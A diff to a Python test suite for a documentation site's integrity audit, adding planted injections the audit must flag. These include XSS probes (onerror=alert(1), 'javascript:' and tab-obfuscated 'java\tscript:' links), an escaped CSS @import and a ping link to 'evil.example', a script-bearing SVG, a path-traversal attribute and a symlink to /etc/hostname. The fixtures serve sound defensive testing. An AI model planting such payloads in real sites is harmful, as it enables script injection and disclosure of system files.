@@ -45,6 +45,9 @@ INJECTED = {
     "<p id=hb-search-hint>x</p>": "<p> has the id 'hb-search-hint', by which scripts know another part",
     "<form name=cookie></form>": "<form> has name 'cookie', and none of ours has",
     "<div data-part='../../evil'></div>": "has a part '../../evil' that is none of ours",
+    "<div data-part='evil'></div>": "has a part 'evil' that is none of ours",
+    "<article hidden aria-hidden=true>x</article>": "<article> has an attribute that none of ours has ('hidden')",
+    "<form data-md-component=palette></form>": "<form> has an attribute that none of ours has ('data-md-component')",
     "<a href='#' ping='https://evil.example/'>x</a>": "<a> asks another site ('https://evil.example/')",
     "<!--><img src=x onerror=alert(1)>-->": STRAY.format(2),
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>": STRAY.format(2),
@@ -52,12 +55,27 @@ INJECTED = {
 }
 """What might get into a page, each with the line of the audit that is about it, and about nothing else."""
 
+CHANGED = "is not the file that docs has here"
+ADDED = "is not in docs, of which the site is made"
+
 REPLACED = {
     THEMES_SCRIPT: (b"alert(1)", "is not the file that the theme has here"),
     "assets/images/favicon.png": (b"x", "is not the file that the theme has here"),
     "assets/images/mark.svg": (b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "the picture holds '<script>', which could run"),
     "lessons/run.html": (b"", "is a file that no site of ours has"),
     "assets/javascripts/early.js.php": (b"", "is a file that no site of ours has"),
+    "assets/javascripts/handbook.js": (b"import './evil/index.js'", CHANGED),
+    "assets/javascripts/evil/index.js": (b"alert(1)", ADDED),
+    "assets/vendor/ical.js": (b"alert(1)", CHANGED),
+    "assets/vendor/bom.json": (b"{}", CHANGED),
+    "assets/vendor/docx-licence.txt": (b"", CHANGED),
+    "assets/stylesheets/handbook.css": (b"@im\\70ort '//evil.example/a.css';", "asks another site ('//evil.example/a.css')"),
+    "assets/stylesheets/evil.css": (b"a{}", ADDED),
+    "assets/images/new.png": (b"<script>alert(1)</script>", "this cannot be read as the kind of picture that its name says"),
+    "search/records.json": (b'{"documents": [[0, "javascript:alert(1)", "x"]]}', "leads to 'javascript:alert(1)', which is no page here"),
+    "data/finder.json": (b'{"entries": [{"url": "java\\tscript:alert(1)"}]}', "leads to 'java\\tscript:alert(1)', which is no page here"),
+    "sitemap.xml": (b"<urlset><url><loc>https://evil.example/</loc></url></urlset>", "lists 'https://evil.example/', which is no page here"),
+    "sitemap.xml.gz": (b"", "is not sitemap.xml"),
 }
 """What might get into the place of a file."""
 
@@ -72,13 +90,15 @@ def test_the_audit_finds_each_of_more_than_thirty_injections_by_a_line_of_its_ow
         assert whole.count(ARTICLE) == 1
         (site / path).write_text(whole.replace(ARTICLE, ARTICLE + planted), encoding="utf-8")
     for path, (content, _) in REPLACED.items():
+        (site / path).parent.mkdir(exist_ok=True)
         (site / path).write_bytes(content)
+    (site / "about" / "hostname.txt").symlink_to("/etc/hostname")
     found = audit.audit(audit.read(site))
     for path, (planted, line) in wanted.items():
         assert f"{path}: {line}" in found, planted
     for path, (_, line) in REPLACED.items():
         assert any(finding.startswith(f"{path}: {line}") for finding in found), path
-    assert {finding.partition(": ")[0] for finding in found} == {*wanted, *REPLACED}, "no other page and no other file is blamed"
+    assert {finding.partition(": ")[0] for finding in found} == {*wanted, *REPLACED, "about/hostname.txt"}, "no other file is blamed"
 
 
 def test_every_page_of_the_handbook_is_in_the_site_and_nothing_else_but_the_page_for_wrong_addresses(site: Path) -> None:
